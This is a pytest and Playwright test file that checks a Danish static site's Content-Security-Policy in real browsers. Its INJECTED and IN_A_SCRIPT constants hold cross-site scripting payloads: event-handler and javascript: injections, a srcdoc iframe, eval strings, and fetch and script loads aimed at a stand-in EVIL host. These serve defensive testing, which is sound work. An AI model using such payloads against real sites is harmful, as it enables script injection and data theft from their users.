"""The content policy: on every page, true of what stands there, and kept by a real browser."""

from __future__ import annotations

import re
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from conftest import ROOT, served, watching
from playwright.sync_api import Browser, Page, expect
from selectolax.lexbor import LexborHTMLParser
from snapshots import published

from generator.model.archive import Archive
from generator.pages import frozen_files
from generator.pages.initiative import embed_files
from generator.publishing.embeds import hash_source
from generator.wording.translator import DANISH_T

pytestmark = pytest.mark.browsers("chromium", "firefox")

# Pages that differ in what they load; that no other reports an error is asked in test_browser.py.
PAGES = [
    "", "sammenlign/pagt/2021/", "initiativer/mit-overblik/", "indlejr/initiativer/mit-overblik/", "bidrag/",
    "404.html",
]  # fmt: skip


class Head:
    """What a policy is about, of one page."""

    def __init__(self, html: str) -> None:
        tree = LexborHTMLParser(html)
        self.first_in_head = tree.css_first("head > *").attributes
        # Other types are data; a browser neither runs them nor asks the policy.
        self.inline = [(node.tag, node.text()) for node in tree.css("style, script:not([src]):not([type])")]
        self.attributes = [
            (node.tag, name, value or "") for node in tree.css("*") for name, value in node.attributes.items()
        ]

    @property
    def policy(self) -> dict[str, list[str]]:
        parts = [part.split() for part in self.first_in_head.get("content", "").split(";")]
        return {name: sources for name, *sources in parts}


def _assert_true(html: str, where: object) -> None:
    head = Head(html)
    assert head.first_in_head.get("http-equiv") == "Content-Security-Policy", where
    policy = head.policy
    assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == ["'none'"], where
    assert not [source for sources in policy.values() for source in sources if "unsafe" in source], where
    for kind in ("script", "style"):
        here = {hash_source(text) for tag, text in head.inline if tag == kind}
        allowed = {source for source in policy.get(f"{kind}-src", ()) if source.startswith("'sha")}
        assert here == allowed, (where, kind, "write these into site_src/overrides/partials/content-policy.html")
    for tag, name, value in head.attributes:
        assert name != "style", (where, tag, value)
        assert not name.startswith("on"), (where, tag, value)
        assert not value.lower().startswith("javascript:"), (where, tag, value)
        if name == "rel":  # Firefox fetches such a page ahead, which the policy refuses
            assert not {"next", "prefetch", "prev"} & set(value.split()), (where, tag, value)
    assert "charset" in html[:1024], (where, "a browser looks for it no further")


def test_every_page_says_first_what_it_may_load_and_allows_just_what_stands_in_it(site: Path) -> None:
    pages = [*site.rglob("*.html")]  # what is frozen, too: an edited page could lose its policy
    assert len(pages) > 200
    for path in pages:
        _assert_true(path.read_text(encoding="utf-8"), path.relative_to(site))


def test_pages_that_stand_alone_allow_their_own_style_and_nothing_else(golden: Archive) -> None:
    for file in (*frozen_files(published(golden)), *embed_files(DANISH_T, published(golden))):
        html = file.data.decode()
        _assert_true(html, file.path)
        assert "script-src" not in Head(html).policy
        assert "frame-ancestors" not in html  # anybody may frame them


def test_the_document_says_the_policy_that_the_pages_have(site: Path) -> None:
    text = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    for page in ("index.html", "indlejr/initiativer/mit-overblik/index.html"):
        for name, sources in Head((site / page).read_text(encoding="utf-8")).policy.items():
            plain = ["'sha256-…'" if source.startswith("'sha") else source for source in sources]
            assert f"`{' '.join([name, *dict.fromkeys(plain)])}`" in text


WATCH = """
globalThis.violations = [];
globalThis.pwned = [];
addEventListener("securitypolicyviolation", (event) =>
  violations.push([event.effectiveDirective, event.blockedURI, event.sample].join(" ")), true);
"""


@pytest.fixture(scope="module")
def watched(browser: Browser, address: str) -> Iterator[Page]:
    """A page that keeps what its policy blocks, in `violations`."""
    context = browser.new_context(base_url=address, locale="da-DK")
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    context.add_init_script(WATCH)
    page = context.new_page()
    page.set_default_timeout(10_000)
    yield page
    context.close()


def _assert_nothing_blocked(page: Page) -> None:
    page.wait_for_timeout(150)
    for frame in page.frames:
        assert frame.evaluate("globalThis.violations") == [], frame.url


@pytest.mark.parametrize("url", PAGES)
def test_a_page_is_whole_under_its_policy(watched: Page, url: str) -> None:
    said: list[str] = []
    keep = lambda message: said.append(message.text) if "Policy" in message.text else None  # noqa: E731
    watched.on("console", keep)
    watched.goto(url, wait_until="networkidle")
    assert watched.evaluate("document.querySelector('meta[http-equiv]').content.length") > 50
    _assert_nothing_blocked(watched)
    for frame in watched.locator("iframe").all():
        frame.scroll_into_view_if_needed()
    _assert_nothing_blocked(watched)
    watched.remove_listener("console", keep)
    assert said == []


def test_light_and_dark_are_chosen_and_remembered(watched: Page) -> None:
    watched.goto("om/")
    watched.get_by_title("Skift til lyst udseende").click()
    watched.get_by_title("Skift til mørkt udseende").click()
    expect(watched.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    watched.goto("aftaler/pagt/")  # other depth, same root: the choice is kept by the inline scripts
    expect(watched.locator("body")).to_have_attribute("data-md-color-scheme", "slate")
    assert watched.evaluate("__md_scope.href") == watched.evaluate("location.origin + '/'")
    watched.get_by_title("Følg systemets udseende").click()
    _assert_nothing_blocked(watched)


INJECTED = """
<script>pwned.push("script")</script>
<script src="EVILx.js"></script>
<script src="data:text/javascript,pwned.push('data')"></script>
<img src="x" onerror="pwned.push('handler')">
<svg onload="pwned.push('svg')"></svg>
<style>h1 { color: rgb(1, 2, 3) }</style>
<p style="position: fixed">stil</p>
<link rel="stylesheet" href="EVILx.css">
<img src="EVILx.png">
<base href="EVIL">
<iframe srcdoc="<script>parent.pwned.push('srcdoc')</script>"></iframe>
<iframe src="EVIL"></iframe>
<object data="EVILx.swf"></object>
<form id="away" action="EVIL"><button>Send</button></form>
<a id="run" href="javascript:pwned.push('address')">Kør</a>
"""
IN_A_SCRIPT = """
for (const attempt of [
  () => eval("pwned.push('eval')"),
  () => new Function("pwned.push('Function')")(),
  () => setTimeout("pwned.push('timeout')", 0),
  () => document.body.append(Object.assign(document.createElement("script"), {text: "pwned.push('made')"})),
  () => document.body.append(Object.assign(document.createElement("script"), {src: "EVILy.js"})),
  () => document.querySelector("main").insertAdjacentHTML("beforeend", "<img id=made src=x onerror=pwned.push('html')>"),
  () => fetch("EVILtaken").catch(() => {}),
  () => new Worker(URL.createObjectURL(new Blob(["fetch('EVILw')"]))),
  () => trustedTypes.createPolicy("own", {createHTML: (text) => text}),
]) try { attempt(); } catch {}
"""


BLOCKED = {
    "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "base-uri", "frame-src",
    "object-src", "form-action", "connect-src",
}  # fmt: skip
TRUSTED_TYPES = re.compile('; require-trusted-types-for[^"]*')


@pytest.mark.parametrize(
    ("taken_out", "blocked"),
    [
        (None, {*BLOCKED, "require-trusted-types-for", "trusted-types"}),
        (TRUSTED_TYPES, {*BLOCKED, "script-src", "worker-src"}),  # as in a browser that does not know them
    ],
    ids=["whole", "without trusted types"],
)
def test_what_gets_into_a_page_all_the_same_is_blocked(
    browser: Browser, site: Path, tmp_path: Path, taken_out: re.Pattern[str] | None, blocked: set[str]
) -> None:
    """As if a template had let it through: markup in the page, and a script of ours that does what it should not."""
    with _broken_into(browser, site, tmp_path, taken_out, INJECTED) as (page, address, reached):
        page.locator("#run").click()
        page.wait_for_timeout(500)
        assert page.evaluate("pwned") == []
        assert page.locator("h1").first.evaluate("h1 => getComputedStyle(h1).color") != "rgb(1, 2, 3)"
        assert page.get_by_text("stil", exact=True).evaluate("p => getComputedStyle(p).position") == "static"
        assert page.evaluate("document.baseURI") == f"{address}om/"
        # Last, because Playwright waits for the page that never comes before it looks for anything more.
        page.evaluate("document.getElementById('away').requestSubmit()")
        page.evaluate("new Promise((done) => setTimeout(done, 300))")
        assert page.evaluate("location.href") == f"{address}om/"
        assert {violation.split()[0] for violation in page.evaluate("violations")} >= blocked
        assert reached == []


def test_without_the_policy_all_of_that_runs(browser: Browser, site: Path, tmp_path: Path) -> None:
    injected = INJECTED.replace('<base href="EVIL">', "")  # or our own scripts would come from there
    with _broken_into(browser, site, tmp_path, re.compile("<meta http-equiv[^>]*>"), injected) as (page, _, reached):
        page.locator("#run").click()
        page.wait_for_timeout(500)
        ran = "script data handler svg srcdoc address eval Function timeout made html"
        assert set(page.evaluate("pwned")) >= set(ran.split())
        assert set(reached) >= {"/x.js", "/x.css", "/x.png", "/y.js", "/taken", "/"}


@contextmanager
def _broken_into(
    browser: Browser, site: Path, tmp_path: Path, taken_out: re.Pattern[str] | None, injected: str
) -> Iterator[tuple[Page, str, list[str]]]:
    """A page of the site that markup and code got into, and what is asked of the host they name."""
    copy = tmp_path / "sted"
    shutil.copytree(site, copy, ignore=shutil.ignore_patterns("fast", "data", "indlejr", "feeds"))
    with served(copy) as address, watching() as (evil, reached):
        html = (site / "om" / "index.html").read_text(encoding="utf-8")
        html = taken_out.sub("", html) if taken_out else html
        html = html.replace("</h1>", f"</h1>{injected.replace('EVIL', evil)}", 1)
        (copy / "om" / "index.html").write_text(html, encoding="utf-8")
        [ours] = copy.glob("assets/*/aftalespor.js")
        with ours.open("a", encoding="utf-8") as script:
            script.write(IN_A_SCRIPT.replace("EVIL", evil))
        context = browser.new_context(base_url=address)
        context.add_init_script(WATCH)
        page = context.new_page()
        page.goto("om/", wait_until="load")
        yield page, address, reached
        context.close()


def test_pages_of_a_new_version_can_be_framed_anywhere(golden: Archive, browser: Browser, tmp_path: Path) -> None:
    for file in embed_files(DANISH_T, published(golden)):
        path = tmp_path / "inde" / file.path
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(file.data)
    name = next(path for path in (tmp_path / "inde").rglob("index.html") if "initiativer" in path.as_posix())
    with served(tmp_path / "inde") as inner, served(tmp_path) as outer:
        src = inner + name.parent.relative_to(tmp_path / "inde").as_posix() + "/"
        (tmp_path / "ramme.html").write_text(f'<iframe src="{src}"></iframe>', encoding="utf-8")
        context = browser.new_context()
        context.add_init_script(WATCH)
        page = context.new_page()
        page.goto(f"{outer}ramme.html", wait_until="networkidle")
        frame = page.frames[1]
        expect(frame.locator("h1")).to_be_visible()
        assert frame.evaluate("getComputedStyle(document.body).margin") == "0px"  # its own style
        assert frame.evaluate("violations") == []
        context.close()
